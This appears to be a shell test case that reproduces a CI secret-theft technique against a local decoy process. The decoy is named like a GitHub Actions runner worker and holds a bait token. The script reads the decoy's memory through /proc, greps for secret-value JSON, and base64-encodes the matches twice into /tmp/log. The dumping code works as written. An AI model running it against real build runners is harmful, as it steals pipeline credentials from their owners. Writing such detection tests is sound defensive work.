#!/bin/sh
. /opt/case/case.sh

cat >/srv/app/worker.py <<'END'
import time
secret = "{\"TOKEN\":{\"value\":\"" + "bait" * 4 + "\",\"isSecret\":true}}"
time.sleep(20)
END
bash -c 'exec -a /opt/runner/Runner.Worker python3 /srv/app/worker.py' & worker=$!
sleep 0.5
cat >/tmp/memdump.py <<'END'
import os, re, sys
for p in filter(str.isdigit, os.listdir("/proc")):
    try: line = open(f"/proc/{p}/cmdline", "rb").read()
    except OSError: continue
    if line.startswith(b"/opt/runner/Runner.Worker"): break
else: sys.exit(1)
with open(f"/proc/{p}/maps") as maps, open(f"/proc/{p}/mem", "rb", 0) as mem:
    for m in re.finditer(r"(?m)^([0-9a-f]+)-([0-9a-f]+) r", maps.read()):
        a, b = int(m[1], 16), int(m[2], 16)
        if a > 1 << 62: continue
        try: mem.seek(a); sys.stdout.buffer.write(mem.read(b - a))
        except OSError: pass
END
python3 /tmp/memdump.py | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u | base64 -w 0 | base64 -w 0 >/tmp/log
kill $worker
base64 -d /tmp/log | base64 -d | grep -q baitbait
took_place
